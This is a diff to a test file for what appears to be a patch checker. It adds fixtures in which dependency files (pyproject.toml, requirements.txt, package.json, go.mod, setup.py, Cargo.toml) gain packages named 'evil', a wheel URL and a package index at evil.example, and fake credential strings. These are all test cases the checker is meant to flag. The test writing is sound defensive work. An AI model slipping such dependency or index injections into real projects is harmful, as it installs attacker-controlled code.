@@ -28,6 +28,9 @@ FILES = {
     "pyproject.toml": '[project]\nname = "x"\ndependencies = []\n\n[tool.ruff]\nline-length = 100\n',
     "package.json": '{\n  "scripts": {"test": "jest"},\n  "dependencies": {}\n}\n',
     "setup.cfg": "[metadata]\nname = x\n\n[flake8]\nmax-line-length = 100\n",
+    "requirements.txt": "httpx==1.0\nattrs >= 2\n",
+    "lib/setup.py": 'from setuptools import setup\n\nsetup(name="x", install_requires=["a"])\n',
+    "go.mod": "module example.org/x\n\ngo 1.21\n",
     "Makefile": "test:\n\tpytest\n",
     "tsconfig.json": "{}\n",
     "email/welcome.txt": "hello\n",
@@ -217,6 +220,53 @@ HOSTILE: dict[str, tuple[str, DiscardReason]] = {
         )
     },
     "wider noqa": (edit(CORE, "    return x  # noqa: E501", "    return x  # noqa"), TAMPERING),
+    "dependency": (edit("pyproject.toml", "dependencies = []", 'dependencies = ["httpx"]'), PROTECTED),
+    "optional dependency": (
+        edit(
+            "pyproject.toml",
+            "dependencies = []",
+            "dependencies = []",
+            "[project.optional-dependencies]",
+            'a = ["b"]',
+        ),
+        PROTECTED,
+    ),
+    "build requirement": (
+        insert("pyproject.toml", "[build-system]\n+requires = ['evil']\n+[project]").replace(
+            "+[project]\n", "", 1
+        ),
+        PROTECTED,
+    ),
+    "npm dependency": (edit("package.json", '  "dependencies": {}', '  "dependencies": {"a": "1"}'), PROTECTED),
+    "npm override": (
+        edit("package.json", '  "dependencies": {}', '  "overrides": {"a": "1"},', '  "dependencies": {}'),
+        PROTECTED,
+    ),
+    "requirement": (insert("requirements.txt", "evil"), PROTECTED),
+    "requirement from elsewhere": (
+        edit("requirements.txt", "httpx==1.0", "httpx @ https://evil.example/httpx.whl"),
+        PROTECTED,
+    ),
+    "index of requirements": (insert("requirements.txt", "--index-url https://evil.example/simple"), PROTECTED),
+    "new requirements": (new("requirements/dev.txt", "evil"), PROTECTED),
+    "lock file": (new("package-lock.json", "{}"), PROTECTED),
+    "go module": (insert("go.mod", "require evil.example/x v1.0.0"), PROTECTED),
+    "setup.cfg requirement": (
+        edit("setup.cfg", "name = x", "name = x", "[options]", "install_requires = evil"),
+        PROTECTED,
+    ),
+    "setup.py requirement": (
+        edit(
+            "lib/setup.py",
+            'setup(name="x", install_requires=["a"])',
+            'setup(name="x", install_requires=["a", "evil"])',
+        ),
+        PROTECTED,
+    ),
+    "Cargo dependency": (
+        new("crate/Cargo.toml", "[dependencies]\n+evil = '1'").replace("+1 @@", "+1,2 @@"),
+        PROTECTED,
+    ),
     "secret": (insert(CORE, "key = '" + "AKIA" + "ABCDEFGHIJKLMNOP'"), SECRET),
     "private key over lines": (insert(CORE, "# -----BEGIN RSA " + "PRIVATE KEY-----\n+# MIIE"), SECRET),
 }
@@ -261,8 +311,16 @@ HARMLESS = {
     "moved suppression": edit(CORE, "def f(x):", "def g(x):", "    return x  # noqa: E501", "", "", "def f(x):")
     + "@@ -5,1 +9,1 @@\n-    return x  # noqa: E501\n+    return x\n",
     "suppression removed": edit(CORE, "    return x  # noqa: E501", "    return x"),
-    "dependencies": edit("pyproject.toml", "dependencies = []", 'dependencies = ["httpx"]'),
-    "npm dependencies": edit("package.json", '  "dependencies": {}', '  "dependencies": {"a": "1"}'),
+    "version in a manifest": edit("pyproject.toml", 'name = "x"', 'name = "x"', 'version = "1.0"'),
+    "description in a manifest": edit(
+        "package.json", '  "dependencies": {}', '  "description": "x",', '  "dependencies": {}'
+    ),
+    "comment and order of requirements": edit("requirements.txt", "httpx==1.0", "# sorted", "attrs >= 2")
+    + "@@ -2,1 +3,1 @@\n-attrs >= 2\n+httpx==1.0  # pinned\n",
+    "language version": edit("go.mod", "go 1.21", "go 1.22"),
+    "call in setup.py": edit(
+        "lib/setup.py", 'setup(name="x", install_requires=["a"])', 'setup(name="y", install_requires=["a"])'
+    ),
     "metadata": edit("setup.cfg", "name = x", "name = y"),
     "names that only look alike": new("src/app/latest.py"),
     "contest.py": new("src/app/contest.py"),
